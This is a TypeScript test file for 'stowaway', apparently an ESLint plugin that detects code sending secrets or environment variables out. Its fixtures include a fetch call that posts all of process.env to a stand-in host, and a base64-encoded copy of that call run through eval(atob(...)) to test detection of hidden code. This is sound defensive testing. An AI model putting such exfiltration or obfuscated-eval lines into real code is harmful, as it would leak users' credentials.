import { Linter } from 'eslint';
import { describe, expect, test } from 'vitest';
import { rules } from '../rules/index.js';
import stowaway, { toEslintRules } from '../src/eslint/index.js';
import { parseWith } from '../src/parse/parse.js';
import { childrenOf } from '../src/parse/walk.js';
import { analyseFile } from '../src/run/file.js';
import { scanSource } from '../src/scan.js';
import type { AnyNode, Example, Finding, Rule } from '../src/types.js';

/** What a host shows of a finding, with lines and columns from 1. */
interface Shown {
  readonly message: string;
  readonly line: number;
  readonly column: number;
  readonly endLine: number | undefined;
  readonly endColumn: number | undefined;
}

const path = 'index.js';
const linter = new Linter();

const cases = Object.entries(rules)
  .filter(([, rule]) => rule.file)
  .flatMap(([id, rule]) => [...withCode(id, rule, 'flags'), ...withCode(id, rule, 'passes')]);

function withCode(id: string, rule: Rule, side: 'flags' | 'passes') {
  return rule.examples[side]
    .filter((example): example is Example & { code: string } => example.code !== undefined)
    .map(({ title, code }) => ({ id, rule, side, title, code }));
}

/** Messages of ESLint with its own parser, in whichever of the three kinds of source the code is. */
function lint(code: string, config: Linter.Config): readonly Linter.LintMessage[] {
  let messages: readonly Linter.LintMessage[] = [];
  for (const sourceType of ['module', 'commonjs', 'script'] as const) {
    messages = linter.verify(code, [{ ...config, languageOptions: { sourceType } }], { filename: path });
    if (!messages.some(({ fatal }) => fatal)) break;
  }
  expect(messages.filter(({ fatal }) => fatal)).toEqual([]);
  return messages;
}

function lintedWith(id: string, code: string): Shown[] {
  const config: Linter.Config = { plugins: { stowaway }, rules: { [`stowaway/${id}`]: 'error' } };
  return inOrder(
    lint(code, config).map(({ message, line, column, endLine, endColumn }) => ({
      message,
      line,
      column,
      endLine,
      endColumn,
    })),
  );
}

/** The library's findings as a host is to show them: at their last step, where it stands on disk. */
function shown(code: string, findings: readonly Finding[]): Shown[] {
  return inOrder(
    findings.map(({ message, chain }) => {
      let at = chain.at(-1)?.at;
      while (at?.decodedFrom) at = at.decodedFrom.at;
      if (!at) throw new Error('a finding without a place');
      const before = code.slice(0, at.end).split('\n');
      return {
        message,
        line: at.line,
        column: at.column,
        endLine: before.length,
        endColumn: (before.at(-1)?.length ?? 0) + 1,
      };
    }),
  );
}

function inOrder(findings: Shown[]): Shown[] {
  return findings.sort(
    (a, b) => a.line - b.line || a.column - b.column || (a.message < b.message ? -1 : a.message > b.message ? 1 : 0),
  );
}

describe('ESLint finds what the library finds, and in the same places', () => {
  test.each(cases)('$id $side: $title', ({ id, rule, side, code }) => {
    const found = lintedWith(id, code);
    expect(found).toEqual(shown(code, scanSource(code, { path, rules: { [id]: rule } })));
    expect(found.length > 0).toBe(side === 'flags');
  });
});

describe.each(['meriyah', 'babel'] as const)('%s finds what the library finds, and in the same places', grammar => {
  test.each(cases)('$id $side: $title', ({ id, rule, code }) => {
    const parsed = parseWith(grammar, { path, text: code });
    expect(parsed.grammar).toBe(grammar);
    const places = (findings: readonly Finding[]) =>
      findings.map(({ message, chain, bits }) => ({
        message,
        bits,
        chain: chain.map(({ says, at }) => ({ says, at })),
      }));
    expect(places(analyseFile(parsed, { [id]: rule }, {}))).toEqual(
      places(scanSource(code, { path, rules: { [id]: rule } })),
    );
  });
});

describe('the plugin', () => {
  test('has the file rules and no others', () => {
    expect(Object.keys(stowaway.rules).sort()).toEqual(
      Object.keys(rules)
        .filter(id => rules[id]?.file)
        .sort(),
    );
  });

  test('has a config with all rules and one with those that suffice for suspicion', () => {
    const enabled = (config: Linter.Config) => Object.keys(config.rules ?? {});
    expect(enabled(stowaway.configs.all)).toEqual(Object.keys(stowaway.rules).map(id => `stowaway/${id}`));
    expect(enabled(stowaway.configs.all)).toEqual(expect.arrayContaining(enabled(stowaway.configs.recommended)));
    expect(enabled(stowaway.configs.recommended)).toContain('stowaway/sends-environment');
    expect(enabled(stowaway.configs.recommended)).not.toContain('stowaway/gates-dangerous-action');
  });

  test('works by its config alone', () => {
    const found = lint(`fetch('https://collect.invalid', { body: JSON.stringify(process.env) });`, {
      ...stowaway.configs.recommended,
    });
    expect(found.map(({ ruleId }) => ruleId)).toEqual(['stowaway/sends-environment']);
  });

  test('reports what is hidden in a decoded text where that text stands', () => {
    const hidden = `fetch('https://collect.invalid', { body: JSON.stringify(process.env) });`;
    const encoded = Buffer.from(hidden).toString('base64');
    const [found] = lintedWith('sends-environment', `\n  eval(atob('${encoded}'));`);
    expect(found).toMatchObject({ line: 2, column: 8, endLine: 2, endColumn: 16 + encoded.length });
  });

  test('takes rules of others', () => {
    const mine: Rule = {
      meta: { summary: 'Debugs', why: '', behaviour: 'capability', messages: { here: 'Stops here' } },
      examples: { flags: [], passes: [] },
      file: ({ file, report }) => ({
        DebuggerStatement(node) {
          report({ messageId: 'here', chain: [{ role: 'sink', says: 'stops', origin: { file, node } }] });
        },
      }),
    };
    const plugin = { rules: toEslintRules({ debugs: mine }) };
    expect(lint('a();\ndebugger;', { plugins: { mine: plugin }, rules: { 'mine/debugs': 'warn' } })).toMatchObject([
      { ruleId: 'mine/debugs', message: 'Stops here', line: 2, column: 1, endLine: 2, endColumn: 10 },
    ]);
  });

  test('survives a file that it reports past the end of, and an empty one', () => {
    const names = Array.from({ length: 9 }, (_, index) => `_0x12ab${index}`).join();
    expect(lint(`var ${names}`, { ...stowaway.configs.all })).toHaveLength(1);
    expect(lint('', { ...stowaway.configs.all })).toEqual([]);
  });

  test('does its work once for a file, however many rules are enabled', () => {
    let runs = 0;
    const counted = (id: string): Rule => ({
      ...(rules[id] as Rule),
      file() {
        runs++;
        return {};
      },
    });
    const plugin = {
      rules: toEslintRules({
        'sends-secrets': counted('sends-secrets'),
        'sends-environment': counted('sends-environment'),
      }),
    };
    lint('fetch(a)', {
      plugins: { mine: plugin },
      rules: { 'mine/sends-secrets': 'error', 'mine/sends-environment': 'error' },
    });
    expect(runs).toBe(2);
  });

  test("leaves ESLint's tree as it was", () => {
    let wrong = 0;
    const after = {
      rules: {
        parents: {
          create: (context: { sourceCode: { ast: unknown } }) => ({
            'Program:exit'() {
              const { ast } = context.sourceCode as { ast: AnyNode & { parent: unknown } };
              if (ast.parent !== null) wrong++;
              for (const stack = [ast as AnyNode]; stack.length > 0; ) {
                const node = stack.pop() as AnyNode;
                for (const child of childrenOf(node)) {
                  if ((child as { parent?: unknown }).parent !== node) wrong++;
                  stack.push(child);
                }
              }
            },
          }),
        },
      },
    };
    lint(
      `const { a, b: { c = 1 }, ...d } = process.env; class E { f = a?.g; #h() { return { a }; } } export { c as i };`,
      {
        plugins: { stowaway, after },
        rules: { ...stowaway.configs.all.rules, 'after/parents': 'error' },
      },
    );
    expect(wrong).toBe(0);
  });
});
